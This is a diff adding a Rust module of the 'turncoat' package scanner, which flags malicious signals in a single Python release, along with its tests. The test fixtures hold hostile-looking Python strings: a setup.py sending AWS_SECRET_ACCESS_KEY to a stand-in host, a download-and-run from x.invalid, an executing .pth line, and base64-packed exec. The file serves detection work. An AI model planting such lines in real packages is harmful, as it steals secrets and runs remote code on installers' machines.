@@ -1,0 +1,162 @@
+//! Single-version judgement (`turncoat scan` of a Python file): no history, so only signals
+//! that are rare in benign releases. The release is judged by the diff rules against a
+//! *baseline* made from its own facts minus those signals, so each signal is reported by the
+//! rule (and code) the gate uses for it, and everything else counts as "already there":
+//!
+//! - a `.pth` line that executes code (`py-pth-exec`);
+//! - the network, DNS, credential stores, persistence places or a secret-looking environment
+//!   variable (or the whole environment) in install-time or interpreter-start code
+//!   (`py-install-time-capability`); process creation, plain `exec` and other environment
+//!   reads at install time are common in benign `setup.py` files and are not reported;
+//! - decoded or loaded code executed at import time or earlier (`py-encoded-exec`);
+//! - pyarmor and other obfuscation markers (`py-obfuscation`);
+//! - the network together with process creation or exec in one file at import time or
+//!   earlier (`py-download-exec`).
+
+use crate::facts::{Capability, DistFacts, Moment, Occurrence};
+use crate::rules::env_exfiltration::secretish;
+use crate::{DiffContext, diff};
+use turncoat_finding::Finding;
+
+/// The codes `scan` reports.
+pub const SCAN_CODES: &[&str] = &[
+    "py-pth-exec",
+    "py-install-time-capability",
+    "py-encoded-exec",
+    "py-obfuscation",
+    "py-download-exec",
+];
+
+fn strong(o: &Occurrence, secret_env_early: bool, early_decoders: &[&str]) -> bool {
+    let early = o.moment <= Moment::Start;
+    match o.capability {
+        Capability::Network => o.moment <= Moment::Import,
+        Capability::Dns | Capability::SensitiveRead | Capability::Persistence => early,
+        // One secret read makes every early read part of the finding (the rule compares
+        // capabilities, not variables).
+        Capability::EnvRead => early && secret_env_early,
+        Capability::EncodedExec => {
+            o.moment <= Moment::Import
+                || o.detail
+                    .as_deref()
+                    .is_some_and(|d| early_decoders.contains(&d))
+        }
+        Capability::Obfuscation => true,
+        _ => false,
+    }
+}
+
+/// Findings about one release judged alone.
+pub fn scan(facts: &DistFacts, name: &str, version: &str) -> Vec<Finding> {
+    let secret_env_early = facts
+        .uses(Capability::EnvRead)
+        .any(|o| o.moment <= Moment::Start && o.detail.as_deref().is_some_and(secretish));
+    let early_decoders: Vec<&str> = facts
+        .uses(Capability::EncodedExec)
+        .filter(|o| o.moment <= Moment::Import)
+        .filter_map(|o| o.detail.as_deref())
+        .collect();
+    let mut baseline = DistFacts::new(facts.kind);
+    baseline.occurrences = facts
+        .occurrences
+        .iter()
+        .filter(|o| !strong(o, secret_env_early, &early_decoders))
+        .cloned()
+        .collect();
+    baseline.entry_points = facts.entry_points.clone();
+    baseline.requires = facts.requires.clone();
+    baseline.native = facts.native.clone();
+    baseline.record_issues = facts.record_issues.clone();
+    let ctx = DiffContext::new(name, "(judged alone)", version);
+    diff(&baseline, facts, &ctx)
+        .into_iter()
+        .filter(|f| SCAN_CODES.contains(&f.code.as_str()))
+        .collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::facts::DistKind;
+    use crate::rules::testing::{facts, wheel};
+
+    fn codes(f: &DistFacts) -> Vec<String> {
+        let mut c: Vec<String> = scan(f, "demo", "1.0.1")
+            .into_iter()
+            .map(|f| f.code)
+            .collect();
+        c.sort();
+        c
+    }
+
+    #[test]
+    fn fires_on_the_takeover_shapes() {
+        let pth = wheel(&[
+            ("demo/__init__.py", "x = 1\n"),
+            ("demo.pth", "import os; os.system('id')\n"),
+        ]);
+        assert_eq!(codes(&pth), ["py-pth-exec"]);
+        let setup = facts(
+            DistKind::Sdist,
+            &[(
+                "setup.py",
+                "import os, urllib.request\nurllib.request.urlopen('https://x.invalid/?' + os.environ['AWS_SECRET_ACCESS_KEY'])\nfrom setuptools import setup\nsetup(name='demo')\n",
+            )],
+        );
+        assert_eq!(codes(&setup), ["py-install-time-capability"]);
+        let secret_only = facts(
+            DistKind::Sdist,
+            &[("setup.py", "import os\nt = os.environ.get('PYPI_TOKEN')\n")],
+        );
+        assert_eq!(codes(&secret_only), ["py-install-time-capability"]);
+        let packed = wheel(&[(
+            "demo/__init__.py",
+            "import base64, zlib\nexec(zlib.decompress(base64.b64decode('eJzLSM3JyVcozy/KSQEAGgQEXQ==')))\n",
+        )]);
+        assert!(
+            codes(&packed).contains(&"py-encoded-exec".to_string()),
+            "{:?}",
+            codes(&packed)
+        );
+        let armor = wheel(&[(
+            "demo/__init__.py",
+            "from pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b'x')\n",
+        )]);
+        assert!(
+            codes(&armor).contains(&"py-obfuscation".to_string()),
+            "{:?}",
+            codes(&armor)
+        );
+        let fetch_run = wheel(&[(
+            "demo/__init__.py",
+            "import subprocess, urllib.request\nurllib.request.urlretrieve('https://x.invalid/m', '/tmp/m')\nsubprocess.Popen(['/tmp/m'])\n",
+        )]);
+        assert!(
+            codes(&fetch_run).contains(&"py-download-exec".to_string()),
+            "{:?}",
+            codes(&fetch_run)
+        );
+    }
+
+    #[test]
+    fn quiet_on_ordinary_releases() {
+        // A setup.py that compiles with subprocess and reads CFLAGS; a library that uses the
+        // network when called; a .pth that only adds a path.
+        let sdist = facts(
+            DistKind::Sdist,
+            &[
+                (
+                    "setup.py",
+                    "import os, subprocess\nflags = os.environ.get('CFLAGS', '')\nsubprocess.check_call(['make'])\nfrom setuptools import setup\nsetup(name='demo')\n",
+                ),
+                (
+                    "demo/__init__.py",
+                    "import os, requests\ndef fetch(u):\n    return requests.get(u, headers={'t': os.environ['API_TOKEN']})\n",
+                ),
+            ],
+        );
+        assert!(codes(&sdist).is_empty(), "{:?}", codes(&sdist));
+        let wheel = wheel(&[("demo/__init__.py", "x = 1\n"), ("demo.pth", "./vendor\n")]);
+        assert!(codes(&wheel).is_empty(), "{:?}", codes(&wheel));
+    }
+}
